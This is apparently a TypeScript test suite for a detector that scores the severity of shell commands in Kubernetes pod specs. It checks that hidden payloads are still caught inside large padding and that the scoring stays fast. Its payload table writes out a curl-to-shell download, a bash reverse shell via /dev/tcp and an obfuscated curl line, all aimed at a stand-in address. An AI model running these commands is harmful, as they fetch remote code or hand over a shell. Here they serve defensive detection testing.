import assert from 'node:assert/strict';
import { test } from 'node:test';
import { gatherFacts } from '../facts/gather.ts';
import { activityOf, podReading } from '../facts/testing.ts';
import { assessAll } from '../indicator/registry.ts';
import { seededRandom } from '../lib/random.ts';
import { growth } from '../lib/testing.ts';
import { SEVERITIES } from '../model/finding.ts';
import type { JsonObject } from '../model/json.ts';
import { assess } from './score.ts';
import { drawnHostile, HOSTILE } from './testing/hostile.ts';

/** The whole judgement of one pod spec. */
const judge = (spec: JsonObject) => {
  const reading = podReading(spec);
  const activity = activityOf();
  const facts = gatherFacts(activity, reading, { level: 'Request', cutAt: null, sameIdOtherContent: 0 });
  return assess(activity, [{ reading, facts, outcomes: assessAll(facts) }]);
};
const shell = (text: string): JsonObject => ({ containers: [{ name: 'a', image: 'x', command: ['sh', '-c', text] }] });

test('there are enough hostile bodies, each of about the size that is asked for', () => {
  assert.ok(Object.keys(HOSTILE).length >= 25);
  for (const [name, make] of Object.entries(HOSTILE)) {
    const { length } = JSON.stringify(make(16_384));
    assert.ok(length > 3000 && length < 19_000, `${name}: ${length}`);
  }
});

for (const [name, make] of Object.entries(HOSTILE)) {
  test(`${name}: judged without a throw, in linear time`, () => {
    assert.doesNotThrow(() => judge(make(1_500_000)));
    const ratio = growth((size) => judge(make(size)), 16_384);
    assert.ok(ratio < 12, `four times the body took ${ratio.toFixed(1)} times as long`);
  });
}

const SEED = Number(process.env.HOSTILE_SEED ?? 20261124);
test(`bodies put together at random are judged without a throw, seed ${SEED}`, () => {
  const random = seededRandom(SEED);
  for (let index = 0; index < 150; index += 1) {
    const spec = drawnHostile(random, 16_384);
    assert.doesNotThrow(() => judge(spec), JSON.stringify(spec).slice(0, 400));
  }
});

const PAYLOADS: Readonly<Record<string, string>> = {
  'a download into a shell': 'curl -s http://203.0.113.7/x | sh',
  'a shell on the network device': "bash -c 'bash -i >& /dev/tcp/203.0.113.7/443 0>&1'",
  'a hidden program': `c''u"r"l -s http://203.0.113.7/x | s''h`,
};
/** Harmless lines of a few forms, of which 256 KiB are made. */
const PADDING: Readonly<Record<string, (index: number) => string>> = {
  nothing: () => ':',
  'words that are printed': (index) => `echo step ${index}`,
  'ordinary commands': (index) => `mkdir -p /data/${index} && cd /data/${index}`,
  comments: (index) => `# ${index}: nothing to see`,
  assignments: (index) => `A${index}=b`,
  'pipes of filters': (index) => `cat /data/${index} | sort | uniq > /data/${index}.out`,
  'words that payloads have': (index) => `kubectl get pods -n ${index}; curl -fsS http://shop.shop.svc/${index}`,
  'functions of their own': (index) => `f${index}() { date; }`,
  'here-documents': (index) => `cat <<E${index}\nx\nE${index}`,
};
const SIZE = 256 * 1024;
const MEDIUM = SEVERITIES.indexOf('medium');
const isAtLeastMedium = (text: string): boolean => {
  const rank = SEVERITIES.indexOf(judge(shell(text)).severity);
  return SEVERITIES.indexOf('critical') > MEDIUM ? rank >= MEDIUM : rank <= MEDIUM;
};
const paddingOf = (line: (index: number) => string): readonly string[] => {
  const lines: string[] = [];
  for (let length = 0, index = 0; length < SIZE; index += 1) {
    const next = line(index);
    lines.push(next);
    length += next.length + 1;
  }
  return lines;
};

for (const [kind, line] of Object.entries(PADDING)) {
  const lines = paddingOf(line);
  for (const [payload, text] of Object.entries(PAYLOADS)) {
    for (const [place, at] of [
      ['in front of', 0],
      ['in the middle of', Math.floor(lines.length / 2)],
      ['three quarters into', Math.floor(lines.length * 0.75)],
      ['behind', lines.length],
    ] as const) {
      test(`${payload} ${place} 256 KiB of ${kind} is at least medium`, () => {
        const whole = [...lines.slice(0, at), text, ...lines.slice(at)].join('\n');
        assert.ok(isAtLeastMedium(whole));
      });
    }
  }
}

test('fifty lines of an ordinary script stay low whatever they are', () => {
  for (const line of Object.values(PADDING)) {
    assert.ok(!isAtLeastMedium(Array.from({ length: 50 }, (_, index) => line(index)).join('\n')), line(0));
  }
});
